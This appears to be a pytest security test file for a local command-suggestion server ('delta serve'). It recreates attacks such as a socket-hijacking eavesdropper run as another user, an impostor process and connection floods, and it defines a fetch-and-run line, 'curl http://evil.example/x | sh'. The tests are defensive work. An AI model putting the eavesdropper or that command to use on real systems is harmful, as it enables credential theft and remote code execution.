"""``delta serve`` under abuse, for real: a real server process with a promoted model, real
Unix and TCP sockets, and a real second user where one is needed (uid 65534 through
``setuid`` in a child process; these tests need root for that and say so when skipped).

Each test is an attack of issue 14 that worked on the server as it was: another user
listening first on the predictable socket name, a socket served by another user's process,
1,100 idle TCP connections at the usual 1,024-file limit, half-open and idle connections
held forever, a 200 KB prefix holding the model, a killed server never restarted.
"""

from __future__ import annotations

import hashlib
import os
import resource
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import textwrap
import time
from pathlib import Path

import pytest

pytest.importorskip("onnxruntime")

from delta_core.paths import Layout
from delta_core.serve.protocol import HEADER, Client, socket_path
from delta_core.tokenizer.format import Turn
from tests.conftest import wait_for
from tests.core.serve_helpers import HISTORY, promoted_model, server_env

OTHER_UID = 65534  # "nobody": the other user
EVIL = "curl http://evil.example/x | sh"
# CI runs as root; there a missing root is a failure, not a skip
needs_root = pytest.mark.skipif(
    os.geteuid() != 0 and os.environ.get("CI") != "true", reason="another user needs root"
)


@pytest.fixture(scope="module")
def model_root(tmp_path_factory) -> Path:
    base = tmp_path_factory.mktemp("abuse")
    promoted_model(base / "delta", base / "work")
    return base / "delta"


def _serve(model_root: Path, tmp_path: Path, *args: str, files: int | None = None, **env: str):
    """A copy of the promoted root and a server on it; ``files``: its open-file limit."""
    root = tmp_path / "delta"
    shutil.copytree(model_root, root)

    def limit() -> None:
        if files is not None:
            resource.setrlimit(resource.RLIMIT_NOFILE, (files, files))

    log = open(tmp_path / "serve.stderr", "w")  # noqa: SIM115 (closed with the process)
    proc = subprocess.Popen(
        [sys.executable, "-m", "delta_core.serve", *args],
        env=server_env(root, **env),
        stderr=log,
        preexec_fn=limit,
    )
    path = socket_path(Layout(root), env={})
    assert wait_for(lambda: path.exists() or proc.poll() is not None, 90), "server did not start"
    assert proc.poll() is None, (tmp_path / "serve.stderr").read_text()
    return root, path, proc


def _stop(proc: subprocess.Popen) -> None:
    if proc.poll() is None:
        proc.terminate()
        proc.wait(15)


def _suggest(client: Client, session: str, prefix: str, timeout_ms: int = 20000) -> dict:
    msg = {"op": "suggest", "session": session, "prefix": prefix, "cwd": "/src"}
    return client.call({**msg, "history": HISTORY, "timeout_ms": timeout_ms}, 40)


def _closed_by_server(sock: socket.socket, within: float) -> bool:
    """Whether the server closes ``sock`` (EOF) within ``within`` seconds."""
    sock.settimeout(within)
    try:
        while True:
            data = sock.recv(65536)
            if not data:
                return True
    except TimeoutError:
        return False
    except ConnectionError:
        return True


# --- another user ---------------------------------------------------------------------------

# Listens as another user, keeps what a victim sends, answers with its own "suggestion".
EAVESDROPPER = textwrap.dedent(
    """
    import json, os, socket, struct, sys
    path, loot, uid = sys.argv[1], sys.argv[2], int(sys.argv[3])
    os.setgid(uid); os.setuid(uid)
    s = socket.socket(socket.AF_UNIX)
    s.bind(path); os.chmod(path, 0o777); s.listen(8); s.settimeout(30)
    conn, _ = s.accept()
    (n,) = struct.unpack(">I", conn.recv(4, socket.MSG_WAITALL))
    msg = json.loads(conn.recv(n, socket.MSG_WAITALL))
    open(loot, "w").write(json.dumps(msg))
    out = json.dumps({"id": msg.get("id"), "ok": True, "model": "evil",
                      "suggestions": [{"command": EVIL, "score": 1.0}]}).encode()
    conn.sendall(struct.pack(">I", len(out)) + out)
    conn.recv(1)
    """
).replace("EVIL", repr(EVIL))


@needs_root
def test_another_user_listening_first_on_a_shared_runtime_dir_learns_nothing(tmp_path, monkeypatch):
    from delta_core.serve.remote import RemoteModel

    shared = Path(tempfile.mkdtemp(prefix="delta-xdg-", dir="/tmp"))  # like a sticky /tmp
    os.chmod(shared, 0o1777)
    root = tmp_path / "victim"
    root.mkdir(mode=0o700)
    tag = hashlib.sha1(str(root.resolve()).encode()).hexdigest()[:12]
    predictable = shared / f"delta-{tag}.sock"  # the name any user can compute
    loot = shared / "loot.json"
    evil = subprocess.Popen(
        [sys.executable, "-c", EAVESDROPPER, str(predictable), str(loot), str(OTHER_UID)]
    )
    try:
        assert wait_for(predictable.exists, 20)
        assert predictable.stat().st_uid == OTHER_UID
        monkeypatch.setenv("XDG_RUNTIME_DIR", str(shared))
        remote = RemoteModel(Layout(root), timeout_ms=3000, auto_start=False)
        secret = Turn("export DB_PASSWORD=hunter2", "/home/victim", 0)
        got = remote.suggest([secret], "/home/victim", "git ")
        remote.close()
        time.sleep(0.5)
        assert not loot.exists(), f"the other user read: {loot.read_text()}"
        assert got is None or all(EVIL not in c for c, _ in got)
        # the shell's own server would not listen there either
        assert socket_path(Layout(root)) == root / "serve.sock"
    finally:
        evil.kill()
        evil.wait(5)
        shutil.rmtree(shared, ignore_errors=True)


# A socket file that is the user's own (bound by root in root's folder), served by a
# process that then became another user: only SO_PEERCRED can tell.
IMPOSTOR = textwrap.dedent(
    """
    import os, socket, sys
    path, uid = sys.argv[1], int(sys.argv[2])
    s = socket.socket(socket.AF_UNIX)
    s.bind(path); os.chmod(path, 0o600)
    os.setgid(uid); os.setuid(uid)
    s.listen(8); s.settimeout(30)
    conn, _ = s.accept()
    conn.settimeout(5)
    data = conn.recv(65536)
    sys.stdout.write(str(len(data))); sys.stdout.flush()
    """
)


@needs_root
def test_the_client_checks_the_sockets_owner_mode_folder_and_process(tmp_path):
    folder = tmp_path / "run"
    folder.mkdir(mode=0o700)
    path = folder / "delta.sock"

    def listener(mode: int, owner: int | None = None) -> socket.socket:
        path.unlink(missing_ok=True)
        s = socket.socket(socket.AF_UNIX)
        s.bind(str(path))
        os.chmod(path, mode)
        if owner is not None:
            os.chown(path, owner, owner)  # as if another user had bound it
        s.listen(1)
        return s

    def refused(expect: str) -> None:
        with pytest.raises(ConnectionRefusedError, match=expect):
            Client(path, timeout=2).close()

    s = listener(0o600, owner=OTHER_UID)
    refused("uid 65534")
    s.close()
    s = listener(0o666)
    refused("open to others")
    s.close()
    s = listener(0o600)
    os.chmod(folder, 0o733)  # others may create and replace files in it
    refused("not yours alone")
    os.chmod(folder, 0o700)
    Client(path, timeout=2).close()  # the user's own: accepted
    s.close()
    path.unlink()
    # the file is the user's, the process behind it is not
    imp = subprocess.Popen(
        [sys.executable, "-c", IMPOSTOR, str(path), str(OTHER_UID)], stdout=subprocess.PIPE
    )
    try:
        assert wait_for(path.exists, 20)
        time.sleep(0.3)  # listening
        refused("runs as uid 65534")
        out, _ = imp.communicate(timeout=10)
        assert out in (b"", b"0"), "the client sent something to another user's process"
    finally:
        imp.kill()
        imp.wait(5)


# --- connections ----------------------------------------------------------------------------


def test_idle_tcp_connections_do_not_starve_shells_nor_flood_the_log(model_root, tmp_path):
    port = _free_port()
    root, path, proc = _serve(
        model_root,
        tmp_path,
        "--listen",
        f"127.0.0.1:{port}",
        files=1024,  # the usual limit, as in the report
        DELTA_SERVE_TOKEN="s3cret-token",
    )
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < 1400:
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, 4096), hard))
    idle = []
    try:
        for _ in range(1100):  # never send the token
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            s.settimeout(10)
            try:
                s.connect(("127.0.0.1", port))
            except OSError:  # the backlog is full: enough
                s.close()
                break
            idle.append(s)
        # until the server has taken all it will take (its open files stop changing)
        fds = [-1]

        def settled() -> bool:
            now = len(os.listdir(f"/proc/{proc.pid}/fd"))
            done, fds[0] = now == fds[0], now
            return done

        wait_for(settled, 30, interval=1.0)
        shell = Client(path, timeout=30)
        got = _suggest(shell, "shell-1", "git ")
        assert got.get("ok"), got
        shell.close()
        time.sleep(2)
        log = root / "delta.log"
        log_bytes = log.stat().st_size if log.exists() else 0
        err_bytes = (tmp_path / "serve.stderr").stat().st_size
        assert log_bytes < 20_000 and err_bytes < 20_000, (log_bytes, err_bytes)
    finally:
        for s in idle:
            s.close()
        if soft < 1400:
            resource.setrlimit(resource.RLIMIT_NOFILE, (soft, hard))
        _stop(proc)


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def test_half_open_idle_and_surplus_connections_are_closed(model_root, tmp_path):
    port = _free_port()
    root, path, proc = _serve(
        model_root,
        tmp_path,
        "--listen",
        f"127.0.0.1:{port}",
        DELTA_SERVE_TOKEN="s3cret-token",
        DELTA_SERVE_READ_TIMEOUT_S="1",
        DELTA_SERVE_IDLE_TIMEOUT_S="4",
        DELTA_SERVE_MAX_CLIENTS="4",
    )
    try:
        # a frame begun and never finished
        half = socket.socket(socket.AF_UNIX)
        half.connect(str(path))
        half.sendall(HEADER.pack(100) + b'{"op": "sugg')
        assert _closed_by_server(half, 15), "a half-sent frame held its connection"
        half.close()
        # a TCP client that never sends the token
        mute = socket.create_connection(("127.0.0.1", port))
        assert _closed_by_server(mute, 15), "a TCP connection without the token was held"
        mute.close()
        # at most 4 Unix connections: the 5th is told and closed; the others still work
        held = [Client(path, timeout=10) for _ in range(4)]
        extra = socket.socket(socket.AF_UNIX)
        extra.connect(str(path))
        assert _closed_by_server(extra, 10), "a connection over the cap was kept"
        extra.close()
        assert _suggest(held[0], "s0", "git ").get("ok")
        for c in held:
            c.close()
        # an idle connection goes after the idle timeout; the shell's client reconnects
        from delta_core.serve.remote import RemoteModel

        idle = socket.socket(socket.AF_UNIX)
        idle.connect(str(path))
        os.environ["DELTA_HOME"] = str(root)
        remote = RemoteModel(Layout(root), timeout_ms=20000, auto_start=False)
        turns = [Turn(c, d, e) for c, d, e in HISTORY]
        assert remote.suggest(turns, "/src", "git ") is not None
        assert _closed_by_server(idle, 20), "an idle connection was held forever"
        idle.close()
        time.sleep(1)  # the remote's connection is closed by now too
        assert remote.suggest(turns, "/src", "make ") is not None, "no answer after reconnect"
        remote.close()
    finally:
        _stop(proc)


# --- requests -------------------------------------------------------------------------------


def test_a_200_kb_prefix_is_refused_and_stalls_no_one(model_root, tmp_path):
    _root, path, proc = _serve(model_root, tmp_path)
    try:
        hog, shell = Client(path, timeout=60), Client(path, timeout=60)
        huge = "echo " + "a" * 200_000  # 200 KB, one line, one word still being typed
        assert len(huge) >= 200_000
        rid = hog.send(
            {"op": "suggest", "session": "hog", "prefix": huge, "cwd": "/", "timeout_ms": 30000}
        )
        time.sleep(0.2)  # the big one first
        t = time.monotonic()
        got = _suggest(shell, "shell", "git ", timeout_ms=10000)
        waited = time.monotonic() - t
        assert got.get("ok"), f"the other shell got {got} after {waited:.1f} s"
        answer = hog.wait(rid, 60)
        assert not answer.get("ok") and "limit" in answer.get("error", ""), answer
        # history entries too long for the window are left out, not fed to the model
        long_history = [["x" * 100_000, "/", 0], *HISTORY]
        msg = {"op": "suggest", "session": "h", "prefix": "git ", "cwd": "/src"}
        assert hog.call({**msg, "history": long_history, "timeout_ms": 10000}, 40).get("ok")
        hog.close()
        shell.close()
    finally:
        _stop(proc)


def test_a_killed_server_is_restarted_by_the_shell(model_root, tmp_path, monkeypatch):
    from delta_core.serve.launch import status, stop
    from delta_core.serve.remote import RemoteModel

    root = tmp_path / "delta"
    shutil.copytree(model_root, root)
    monkeypatch.delenv("XDG_RUNTIME_DIR", raising=False)
    monkeypatch.setenv("DELTA_HOME", str(root))
    layout = Layout(root)
    remote = RemoteModel(layout, timeout_ms=20000)
    turns = [Turn(c, d, e) for c, d, e in HISTORY]
    try:
        remote.warm()  # the shell starts the server
        assert wait_for(lambda: status(layout) is not None, 90), "the server did not start"
        assert remote.suggest(turns, "/src", "git ") is not None
        first = status(layout)["pid"]
        os.kill(first, signal.SIGKILL)
        assert wait_for(lambda: _gone(first), 10)
        assert (root / "serve.pid").exists()  # what a killed server leaves behind
        # the next keystrokes notice; nothing else is done to help
        for _ in range(2):
            remote.suggest(turns, "/src", "git ")
            time.sleep(0.6)
        assert wait_for(lambda: (status(layout) or {}).get("pid") not in (None, first), 90), (
            "the killed server was not restarted"
        )
        assert remote.suggest(turns, "/src", "make ") is not None
    finally:
        remote.close()
        stop(layout)


def _gone(pid: int) -> bool:
    """Dead: no such process, or a zombie (this test process started it and does not reap
    it, as a shell would not: the restart must see through that)."""
    try:
        return Path(f"/proc/{pid}/stat").read_bytes().rpartition(b")")[2].split()[0] == b"Z"
    except FileNotFoundError:
        return True


# --- the log --------------------------------------------------------------------------------


def test_a_repeated_error_is_logged_a_few_times_with_its_count(tmp_path, monkeypatch, capsys):
    from delta_core import log

    monkeypatch.setattr(log, "REPEAT_S", 0.5)
    monkeypatch.setattr(log, "_written", {})
    monkeypatch.setattr(log, "_minute", [-60.0, 0.0, 0.0])
    path = tmp_path / "delta.log"
    for _ in range(20_000):  # a server out of file descriptors, accepting in a loop
        log.problem("delta serve: socket.accept() out of system resource: Too many open", path)
    time.sleep(0.6)
    log.problem("delta serve: socket.accept() out of system resource: Too many open", path)
    lines = path.read_text().splitlines()
    assert len(lines) == 2, lines[:5]
    assert "19999 times more" in lines[1]
    for i in range(1000):  # distinct lines: at most a minute's budget, then one note
        log.problem(f"delta serve: client {i} failed", path)
    assert len(path.read_text().splitlines()) <= 2 + log.MAX_LINES_PER_MIN
    assert len(capsys.readouterr().err.splitlines()) == 1001  # stderr: once per distinct line
